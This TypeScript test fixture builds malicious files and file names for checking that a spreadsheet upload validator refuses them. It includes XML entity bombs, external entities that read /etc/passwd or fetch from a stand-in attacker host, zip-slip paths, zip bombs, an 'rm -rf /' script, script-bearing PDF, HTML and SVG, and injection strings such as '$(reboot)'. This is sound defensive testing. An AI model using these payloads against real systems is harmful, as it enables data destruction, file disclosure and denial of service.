import { handMadeZip, smallestWorkbook, type HandMadePart } from '#platform/sheets/testing.ts'
import { hostile } from '../../corpus/hostile.ts'

/** A file that is sent where a workbook is expected. */
export type HostileFile = {
  readonly says: string
  /** As the header of the part writes it. */
  readonly name: string
  readonly type?: string
  readonly bytes: () => Buffer
  /** The bytes are an honest workbook; only its name is odd. */
  readonly isHarmless?: true
}

const sheet = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const plain = smallestWorkbook('<row r="1"><c r="A1"><v>1</v></c></row>')
const book = (...parts: readonly HandMadePart[]) => handMadeZip([...plain, ...parts])
const file = (says: string, name: string, bytes: () => Buffer): HostileFile => ({
  says,
  name,
  type: sheet,
  bytes,
})
const replaced = (name: string, content: string) =>
  handMadeZip(plain.map((part) => (part.name === name ? { ...part, content } : part)))
const sheetXml = (inside: string) => replaced('xl/worksheets/sheet1.xml', inside)
const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const pdf = Buffer.from(
  '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<<>>',
)
// The industry's harmless test virus, in two halves so that no scanner takes this file for it.
const eicar = Buffer.from(
  `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR-STANDARD'}-ANTIVIRUS-TEST-FILE!$H+H*`,
)

/** Files that must be refused. */
export const hostileWorkbooks: readonly HostileFile[] = [
  ...hostile.map(({ file: name, expected, bytes }) =>
    file(expected.about, name, () => bytes() as Buffer),
  ),
  file('nothing at all', 'rong.xlsx', () => Buffer.alloc(0)),
  file('one byte', 'a.xlsx', () => Buffer.from('P')),
  file('the start of a zip file', 'a.xlsx', () => Buffer.from('PK\u0003\u0004')),
  file('zeros', 'a.xlsx', () => Buffer.alloc(1_000_000)),
  file('the virus that is none', 'eicar.xlsx', () => eicar),
  file('the virus that is none, packed', 'eicar.xlsx', () =>
    handMadeZip([{ name: 'eicar.com', content: eicar }]),
  ),
  file('a Windows program', 'a.xlsx', () =>
    Buffer.concat([Buffer.from('MZ'), Buffer.alloc(5_000)]),
  ),
  file('a Linux program', 'a.xlsx', () =>
    Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(5_000)]),
  ),
  file('a script', 'a.xlsx', () => Buffer.from('#!/bin/sh\nrm -rf /\n')),
  file('a page', 'a.xlsx', () => Buffer.from('<!doctype html><script>alert(1)</script>')),
  file('a picture with a script', 'a.xlsx', () =>
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ),
  file('a document with a script', 'a.xlsx', () => pdf),
  file('a document and a workbook in one', 'a.xlsx', () => Buffer.concat([pdf, book()])),
  file('a workbook and a document in one', 'a.xlsx', () => Buffer.concat([book(), pdf])),
  file('a picture and a workbook in one', 'a.xlsx', () =>
    Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(100), book()]),
  ),
  file('two workbooks in one', 'a.xlsx', () => Buffer.concat([book(), book()])),
  file('a zip file of zip files', 'a.xlsx', () =>
    book({
      name: 'xl/embeddings/a.zip',
      content: book({ name: 'xl/vbaProject.bin', content: 'VBA' }),
    }).subarray(0, -1),
  ),
  file('70.000 entries', 'a.xlsx', manyEntries),
  file('a gigabyte in a megabyte', 'a.xlsx', gigabyte),
  file('a name of 600 letters', 'a.xlsx', () =>
    book({ name: `xl/${'a'.repeat(600)}.xml`, content: 'a' }),
  ),
  file('a link to another file', 'a.xlsx', () =>
    book({ name: 'xl/a.xml', content: '/etc/passwd', unixMode: 0xa1ff }),
  ),
  file('a name on another drive', 'a.xlsx', () =>
    book({ name: 'C:\\windows\\a.xml', content: 'a' }),
  ),
  file('an absolute name', 'a.xlsx', () => book({ name: '/etc/cron.d/a', content: 'a' })),
  file('a name that goes up inside', 'a.xlsx', () =>
    book({ name: 'xl/media/../../../a', content: 'a' }),
  ),
  file('another name in the local header', 'a.xlsx', () =>
    book({ name: 'xl/a.xml', localName: '../../a', content: 'a' }),
  ),
  file('the same name twice', 'a.xlsx', () => book({ name: 'xl/WORKBOOK.xml', content: 'a' })),
  file('an encrypted part', 'a.xlsx', () => book({ name: 'xl/a.xml', content: 'a', flags: 1 })),
  file('a part larger than it says', 'a.xlsx', () =>
    book({ name: 'xl/a.xml', content: Buffer.alloc(500_000, 32), claimedBytes: 100 }),
  ),
  file('a part smaller than it says', 'a.xlsx', () =>
    book({ name: 'xl/a.xml', content: 'a', claimedBytes: 100_000 }),
  ),
  file('entities that double', 'a.xlsx', () =>
    sheetXml(
      `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">${'bcdefgh'
        .split('')
        .map((name, n) => `<!ENTITY ${name} "${`&${'abcdefg'[n] ?? 'a'};`.repeat(10)}">`)
        .join(
          '',
        )}]><worksheet xmlns="${main}"><sheetData><row><c t="inlineStr"><is><t>&h;</t></is></c></row></sheetData></worksheet>`,
    ),
  ),
  file('an entity from a file', 'a.xlsx', () =>
    sheetXml(
      `<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet xmlns="${main}"><sheetData/></worksheet>`,
    ),
  ),
  file('an entity from elsewhere', 'a.xlsx', () =>
    sheetXml(
      `<!DOCTYPE a SYSTEM "http://attack.invalid/a.dtd"><worksheet xmlns="${main}"><sheetData/></worksheet>`,
    ),
  ),
  file('an XML part in UTF-16', 'a.xlsx', () =>
    handMadeZip(
      plain.map((part) =>
        part.name === 'xl/worksheets/sheet1.xml'
          ? { ...part, content: Buffer.from('\ufeff<worksheet/>', 'utf16le') }
          : part,
      ),
    ),
  ),
  file('a sheet cut short', 'a.xlsx', () =>
    sheetXml(`<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1"><v>1`),
  ),
  file('macros of the old kind', 'a.xlsx', () =>
    book({ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }),
  ),
  file('a control that runs', 'a.xlsx', () =>
    book({ name: 'xl/activeX/activeX1.xml', content: '<a/>' }),
  ),
  file('a ribbon that runs', 'a.xlsx', () =>
    book({ name: 'customUI/customUI.xml', content: '<a/>' }),
  ),
  file('a connection to a database', 'a.xlsx', () =>
    book({ name: 'xl/connections.xml', content: '<a/>' }),
  ),
  file('a query of its own', 'a.xlsx', () =>
    book({ name: 'xl/queryTables/queryTable1.xml', content: '<a/>' }),
  ),
  file('a type with macros', 'a.xlsx', () =>
    replaced(
      '[Content_Types].xml',
      '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
    ),
  ),
  file('a Word file with macros', 'a.docm', () =>
    handMadeZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: '<a/>' },
      { name: 'word/vbaProject.bin', content: 'VBA' },
    ]),
  ),
  file('a Word file', 'a.docx', () =>
    handMadeZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: '<a/>' },
    ]),
  ),
  file('a Java program', 'a.jar', () =>
    handMadeZip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: A' }]),
  ),
  file('more than is taken', 'a.xlsx', () => Buffer.alloc(11_000_000, 80)),
]

/** Workbooks damaged at every place: refused, or read where the byte says nothing. */
export const damagedWorkbooks: readonly HostileFile[] = [
  ...Array.from({ length: 24 }, (_, n) =>
    file(`a workbook with byte ${n} of 24 changed`, 'a.xlsx', () => flipped(n / 24)),
  ),
  ...Array.from({ length: 12 }, (_, n) =>
    file(`a workbook cut after ${n} of 12 parts`, 'a.xlsx', () =>
      book().subarray(0, Math.floor((book().length * n) / 12)),
    ),
  ),
].map((each) => ({ ...each, isHarmless: true }))

/** Names a file may not break anything with; the bytes are honest and empty of schemes. */
export const hostileNames: readonly HostileFile[] = [
  '../../../../etc/cron.d/kc.xlsx',
  '..\\..\\windows\\kc.xlsx',
  '/etc/passwd',
  'C:\\boot.ini',
  'con.xlsx',
  'a.xlsx\\0.exe',
  'a\\u202excod.xlsx',
  'Kế hoạch khuyến công năm 2018 – tỉnh Đắk Lắk.xlsx',
  'Kế hoạch.xlsx'.normalize('NFD'),
  'a%0d%0aset-cookie: kc=1.xlsx',
  'a%00.xlsx',
  '<img src=x onerror=alert(1)>.xlsx',
  "'; drop table scheme; --.xlsx",
  '=HYPERLINK(1).xlsx',
  `${'a'.repeat(3_000)}.xlsx`,
  '.xlsx',
  ' ',
  '....',
  '-rf.xlsx',
  '$(reboot).xlsx',
  "a.xlsx; filename*=UTF-8''b.exe",
].map((name): HostileFile => ({
  says: `the name ${name.slice(0, 40)}`,
  name: JSON.parse(`"${name.replace(/\\(?![u0])/g, '\\\\').replace('\\0', '\\u0000')}"`) as string,
  type: sheet,
  bytes: () => book(),
  isHarmless: true,
}))

function manyEntries(): Buffer {
  const parts = Array.from({ length: 65_000 }, (_, n) => ({ name: `xl/${n}.xml`, content: '' }))
  const bytes = handMadeZip([...plain, ...parts])
  // The directory counts to 65.535; the end claims more by its size.
  bytes.writeUInt16LE(0xffff, bytes.length - 14)
  bytes.writeUInt16LE(0xffff, bytes.length - 12)
  return bytes
}

function gigabyte(): Buffer {
  return book({
    name: 'xl/media/a.xml',
    content: Buffer.alloc(1_000_000),
    claimedBytes: 1_000_000_000,
  })
}

/** A byte changed within what is packed; which is noticed by its checksum, or by what it says. */
function flipped(share: number): Buffer {
  const bytes = book()
  const at = Math.floor(bytes.length * share)
  bytes[at] = (bytes[at] ?? 0) ^ 0x55
  return bytes
}
